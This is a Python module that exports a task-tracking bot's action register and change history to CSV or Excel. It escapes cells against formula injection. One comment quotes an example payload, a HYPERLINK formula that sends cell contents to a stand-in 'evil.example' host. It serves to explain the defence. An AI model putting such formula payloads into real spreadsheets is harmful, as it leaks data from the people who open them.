"""The register and its history as CSV or a workbook: the board pack and the evidence trail.

A register exported to CSV is also a plan file: `actionbot import` reads its title, owner,
due, ref, workstream, priority, status, rag, notes and success_measure columns (and ignores
the rest: bot.plans.apply.REGISTER_ONLY), and re-importing it unchanged changes nothing.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Sequence
from typing import BinaryIO, Literal
from zoneinfo import ZoneInfo

from bot.domain import Platform
from bot.domain.rebaseline import slippage
from bot.domain.workdays import WorkingCalendar
from bot.render.from_storage import mentioned
from bot.render.inline import people_map, plain
from bot.services.context import Core
from storage import queries
from storage.models import Action, HistoryEntry, Person

REGISTER_COLUMNS = (
    "id",
    "ref",
    "title",
    "owner",
    "owner_email",
    "workstream",
    "priority",
    "status",
    "rag",
    "due",
    "days_late",
    "blocked_reason",
    "notes",
    "created_at",
    "updated_at",
    "done_at",
    "success_measure",
    "cadence",
    "owner_text",
    "supporting",
    # The deadline first given, how often it moved since, and how far in working days.
    "baseline_due",
    "rebaselines",
    "slippage_working_days",
)
HISTORY_COLUMNS = (
    "at",
    "action_id",
    "ref",
    "title",
    "who",
    "who_email",
    "source",
    "change",
    "field",
    "old_value",
    "new_value",
    "note",
    # The entry's seal and its link to the entry before (storage.history_chain): a board pack
    # keeps them, so a history rewritten later no longer matches the packs handed out.
    "hash",
    "prev_hash",
)

# CSV/formula injection (OWASP, https://owasp.org/www-community/attacks/CSV_Injection): Excel
# and LibreOffice run a cell that starts with one of these as a formula, so an action titled
# `=HYPERLINK("http://evil.example?"&A1,"click")` would run on the board secretary's machine
# when they open the pack. OWASP's remedy is a leading single quote, which makes the cell text;
# the importer takes it off again, so the register still round-trips.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Platform ids, best first, for owners without an email: the chat platforms' ids are what the
# importer's directory (Slack users.info) resolves; console names are for local trials.
_ID_PREFERENCE = (Platform.SLACK, Platform.TEAMS, Platform.CONSOLE)

Row = list[object]


def export_register(
    core: Core, *, fmt: Literal["csv", "xlsx"], history: bool, out: BinaryIO
) -> None:
    """Write the register to `out`; `history` adds every change to every action.

    CSV holds one table, so with `history` it is the history table (oldest change first),
    without it the register. A workbook has a "Register" sheet, and a "History" sheet too when
    `history` is set. Times are ISO 8601 in the bot's timezone, with their UTC offset.
    """
    if fmt not in ("csv", "xlsx"):
        raise ValueError(f"unknown export format {fmt!r}; use csv or xlsx")
    tz, today = core.settings.tz, core.today()
    calendar = WorkingCalendar.from_settings(core.settings)
    with core.sessions() as session:
        # Loading every action first lets each history entry find its action in the session's
        # identity map instead of one query per entry.
        register = [
            register_row(a, today=today, tz=tz, calendar=calendar)
            for a in queries.all_actions(session, board_id=core.board.id)
        ]
        changes = (
            [history_row(h, tz=tz) for h in queries.all_history(session, board_id=core.board.id)]
            if history
            else []
        )
    if fmt == "csv":
        if history:
            _write_csv(out, HISTORY_COLUMNS, changes)
        else:
            _write_csv(out, REGISTER_COLUMNS, register)
        return
    sheets: list[tuple[str, Sequence[str], Sequence[Row]]] = [
        ("Register", REGISTER_COLUMNS, register)
    ]
    if history:
        sheets.append(("History", HISTORY_COLUMNS, changes))
    _write_xlsx(out, sheets)


def owner_address(person: Person | None) -> str | None:
    """How a plan file names a person: their email, else a platform user id."""
    if person is None:
        return None
    if person.email:
        return person.email
    for platform in _ID_PREFERENCE:
        identity = person.identity(platform)
        if identity is not None:
            return identity.external_id
    return None


def register_row(action: Action, *, today: dt.date, tz: ZoneInfo, calendar: WorkingCalendar) -> Row:
    """One action in REGISTER_COLUMNS order (due as a date; times as ISO text).

    Without a deadline, due, days_late, the baseline and the slippage are blank: the action
    cannot be late.
    """
    late: int | None = None
    if action.due_date is not None:
        late = 0 if action.status.is_closed else max(0, (today - action.due_date).days)
    return [
        action.id,
        action.ref,
        action.title,
        # An unassigned action keeps the plan's words as its owner, so the register imported
        # again (once the directory knows that name) assigns it.
        owner_address(action.owner) if action.owner else action.owner_text,
        action.owner.email if action.owner else None,
        action.workstream,
        action.priority,
        action.status.label,
        action.rag.value if action.rag else None,
        action.due_date,
        late,
        action.blocked_reason,
        action.notes,
        iso_time(action.created_at, tz),
        iso_time(action.updated_at, tz),
        iso_time(action.done_at, tz),
        action.success_measure,
        action.cadence,
        action.owner_text,
        # Supporting owners as the importer's `supporting` column reads them back.
        "; ".join(filter(None, (owner_address(s.person) for s in action.supporters))) or None,
        action.baseline_due,
        action.rebaselines or 0,
        slippage(action.baseline_due, action.due_date, calendar) if action.due_date else None,
    ]


def history_row(entry: HistoryEntry, *, tz: ZoneInfo) -> Row:
    """One change in HISTORY_COLUMNS order; `who` is the source when no person acted.

    The evidence is for people: a mention reads `@Amira Khan`, older Slack markup its words.
    """
    texts = (entry.action.title, entry.old_value, entry.new_value, entry.note)
    people = people_map(mentioned(entry, texts))
    title, old, new, note = (plain(text, people) if text else text for text in texts)
    return [
        iso_time(entry.at, tz),
        entry.action_id,
        entry.action.ref,
        title,
        entry.actor.display_name if entry.actor else entry.source,
        entry.actor.email if entry.actor else None,
        entry.source,
        entry.change,
        entry.field,
        old,
        new,
        note,
        entry.hash,
        entry.prev_hash,
    ]


def iso_time(value: dt.datetime | None, tz: ZoneInfo) -> str | None:
    """`2026-11-23T09:30:00+00:00`: the bot's local time with its offset, to the second."""
    return value.astimezone(tz).isoformat(timespec="seconds") if value else None


def csv_cell(value: object) -> str:
    """A value as CSV text that a spreadsheet shows as it is and never runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    text = str(value)
    if isinstance(value, str) and text.startswith(FORMULA_START):
        return "'" + text
    return text


def _write_csv(out: BinaryIO, columns: Sequence[str], rows: Sequence[Row]) -> None:
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(columns)
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    # The BOM makes Excel read the file as UTF-8, so "Zoë" and "£" survive a double-click.
    out.write(("\ufeff" + text.getvalue()).encode("utf-8"))


def _write_xlsx(out: BinaryIO, sheets: Sequence[tuple[str, Sequence[str], Sequence[Row]]]) -> None:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    bold = Font(bold=True)
    for title, columns, rows in sheets:
        sheet = book.create_sheet(title)
        sheet.append(list(columns))
        for cell in sheet[1]:
            cell.font = bold
        widths = [len(column) for column in columns]
        for number, row in enumerate(rows, start=2):
            for index, value in enumerate(row, start=1):
                cell = sheet.cell(row=number, column=index)
                if isinstance(value, str):
                    # XML cannot hold most control characters; openpyxl refuses them.
                    value = ILLEGAL_CHARACTERS_RE.sub("", value)
                    cell.value = value
                    # openpyxl writes "=…" as a formula; a typed string cell is text to Excel,
                    # and the quote prefix keeps it text if someone edits it (see FORMULA_START).
                    cell.data_type = "s"
                    cell.quotePrefix = value.startswith(FORMULA_START)
                else:
                    cell.value = value
                    if isinstance(value, dt.date):
                        cell.number_format = "yyyy-mm-dd"
                shown = 10 if isinstance(value, dt.date) else len(str(value or ""))
                widths[index - 1] = max(widths[index - 1], shown)
        # Header stays in view while scrolling; filters let the board slice by owner or RAG.
        sheet.freeze_panes = "A2"
        sheet.auto_filter.ref = sheet.dimensions
        for index, width in enumerate(widths, start=1):
            # Capped, so one long title or note does not make a column screens wide.
            sheet.column_dimensions[get_column_letter(index)].width = min(60, width + 2)
    buffer = io.BytesIO()
    book.save(buffer)
    out.write(buffer.getvalue())
